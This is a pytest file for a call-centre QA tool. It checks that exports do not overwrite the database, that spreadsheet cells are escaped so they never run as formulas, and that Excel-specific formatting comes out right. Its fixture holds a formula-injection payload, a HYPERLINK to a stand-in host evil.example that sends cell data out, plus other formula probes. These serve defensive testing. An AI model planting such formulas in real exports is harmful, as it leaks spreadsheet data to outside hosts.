"""Exports never destroy a file by accident, and never carry a live formula into a spreadsheet."""

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from qa_review.core.permissions import User
from qa_review.core.permissions import User as _User  # noqa: E402
from qa_review.services import review, scoring
from qa_review.services.database import open_database
from tests.cli_runner import invoke

ADMIN_USER = _User("root", "admin")

SUPERVISOR = User("sup", "supervisor")

EVIL_OPERATOR = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'


@pytest.fixture
def db(tmp_path):
    chat = {
        "conversation_id": "chat-x",
        "operator": EVIL_OPERATOR,
        "started_at": "2026-11-04T19:00:00+03:00",
        "channel": "chat",
        "phone": "+79161234567",
        "messages": [
            {"speaker": "client", "at": "2026-11-04T19:00:00+03:00", "text": "=1+2"},
            {"speaker": "operator", "at": "2026-11-04T19:00:30+03:00", "text": "@SUM(A1:A9) Здравствуйте!"},
            {"speaker": "client", "at": "2026-11-04T19:01:00+03:00", "text": "-2+3 и\tещё"},
        ],
    }
    (tmp_path / "chat.json").write_text(json.dumps(chat, ensure_ascii=False))
    path = tmp_path / "qa.db"
    assert invoke("--db", path, "ingest", tmp_path / "chat.json").exit_code == 0
    # A supervisor finalizes it, so it counts in the month's KPIs.
    storage = open_database(path)
    ((row, card),) = scoring.scorecards(storage, ADMIN_USER, "chat-x")
    for item in card.items:
        if item.verdict == "review":
            review.set_verdict(storage, SUPERVISOR, row["id"], item.item_id, "pass", "ok", None)
    review.finalize(storage, SUPERVISOR, row["id"], None)
    storage.close()
    return path


def test_an_export_never_replaces_the_database(db, tmp_path):
    before = db.read_bytes()
    for force in ([], ["--force"]):
        result = invoke("--db", db, "export", "scores", "-o", db, *force)
        assert result.exit_code == 2 and "SQLite database" in result.output
    assert db.read_bytes() == before
    assert "1 call(s)" in invoke("--db", db, "calls").output


def test_an_existing_file_is_replaced_only_with_force(db, tmp_path):
    out = tmp_path / "scores.csv"
    out.write_text("last month's figures")
    refused = invoke("--db", db, "export", "scores", "-o", out)
    assert refused.exit_code == 2 and "--force" in refused.output
    assert out.read_text() == "last month's figures"
    assert invoke("--db", db, "export", "scores", "-o", out, "--force").exit_code == 0
    assert out.read_text(encoding="utf-8").startswith("\ufeffcall_id;")  # a file: Excel's dialect


def test_csv_cells_that_would_run_as_formulas_are_quoted_and_numbers_stay_numbers(db, tmp_path):
    scores = list(csv.DictReader(io.StringIO(invoke("--db", db, "export", "scores").output)))
    assert {r["operator"] for r in scores} == {"'" + EVIL_OPERATOR}
    assert all(r["score"] == "" or float(r["score"]) >= 0 for r in scores)  # not quoted
    assert all(not r["weight"].startswith("'") for r in scores)

    clear = invoke("--db", db, "export", "transcripts", "--format", "csv", "--no-redact").output
    rows = list(csv.DictReader(io.StringIO(clear)))
    assert [r["text"] for r in rows] == ["'=1+2", "'@SUM(A1:A9) Здравствуйте!", "'-2+3 и\tещё"]
    assert {r["phone"] for r in rows} == {"'+79161234567"}  # a phone stays text, not 7.9E+10
    assert {r["start"] for r in rows} == {"0.0", "30.0", "60.0"}

    kpi = invoke("--db", db, "kpi", "--month", "2026-11").output
    data = list(csv.DictReader(io.StringIO(kpi)))
    assert [r["operator"] for r in data] == ["'" + EVIL_OPERATOR]


def test_xlsx_text_cells_are_text_never_formulas(db, tmp_path):
    out = tmp_path / "kpi.xlsx"
    assert invoke("--db", db, "kpi", "--month", "2026-11", "--format", "xlsx", "-o", out).exit_code == 0
    ws = load_workbook(out)["Операторы"]
    header = [c.value for c in ws[1]]
    (row,) = [r for r in ws.iter_rows(min_row=2) if r[0].value is not None]
    operator = row[header.index("Оператор")]
    assert operator.value == EVIL_OPERATOR and operator.data_type == "s"  # shown as typed, not run
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
    assert isinstance(row[header.index("Коэффициент премии")].value, (int, float, type(None)))


def _read(text: str, delimiter: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize(
    "command",
    [
        ["export", "scores"],
        ["export", "audit"],
        ["export", "transcripts", "--format", "csv"],
        ["kpi", "--month", "2026-11"],
    ],
)
def test_every_csv_for_people_is_excels_in_a_file_and_plain_on_standard_output(db, tmp_path, command):
    out = tmp_path / "out.csv"
    assert invoke("--db", db, *command, "-o", out).exit_code == 0
    excel = out.read_bytes().decode("utf-8")
    assert excel.startswith("\ufeff") and "\r\n" in excel  # the BOM Russian Excel needs to see UTF-8
    rows = _read(excel[1:], ";")
    assert rows and len(rows[0]) > 3  # ';' split it into its columns

    plain = invoke("--db", db, *command).output
    assert not plain.startswith("\ufeff")
    assert list(_read(plain, ",")[0]) == list(rows[0])  # the same columns, in the same order
    assert len(_read(plain, ",")) == len(rows)

    assert invoke("--db", db, *command, "-o", out, "--force", "--plain").exit_code == 0
    assert out.read_bytes().decode("utf-8") == plain.replace("\n", "\r\n").replace("\r\r\n", "\r\n")
    assert invoke("--db", db, *command, "--excel").output.lstrip("\ufeff").startswith(excel[1:40])


def test_yes_no_and_decimals_read_as_excel_or_a_program_expects(db, tmp_path):
    out = tmp_path / "scores.csv"
    assert invoke("--db", db, "export", "scores", "-o", out).exit_code == 0
    excel = _read(out.read_text(encoding="utf-8-sig"), ";")
    plain = _read(invoke("--db", db, "export", "scores").output, ",")
    for name in ("provisional", "critical_failed", "passed", "critical"):
        assert {r[name] for r in excel} <= {"да", "нет"} and {r[name] for r in plain} <= {"1", "0"}
    assert {r["provisional"] for r in excel} == {"нет"}  # finalized
    assert [r["critical"] == "да" for r in excel] == [r["critical"] == "1" for r in plain]
    assert all("True" not in v and "False" not in v for r in excel + plain for v in r.values())

    lines = tmp_path / "lines.csv"
    assert invoke("--db", db, "export", "transcripts", "--format", "csv", "-o", lines).exit_code == 0
    starts = [r["start"] for r in _read(lines.read_text(encoding="utf-8-sig"), ";")]
    assert starts == ["0,0", "30,0", "60,0"]  # a decimal comma, so Excel reads a number

    kpi = tmp_path / "kpi.csv"
    assert invoke("--db", db, "kpi", "--month", "2026-11", "-o", kpi).exit_code == 0
    (row,) = _read(kpi.read_text(encoding="utf-8-sig"), ";")
    (plain_row,) = _read(invoke("--db", db, "kpi", "--month", "2026-11").output, ",")
    assert row["month"] == plain_row["month"] == "2026-11"
    score = plain_row["mean_final_score"]
    assert "." in score or score.isdigit()
    assert row["mean_final_score"] == score.replace(".", ",")
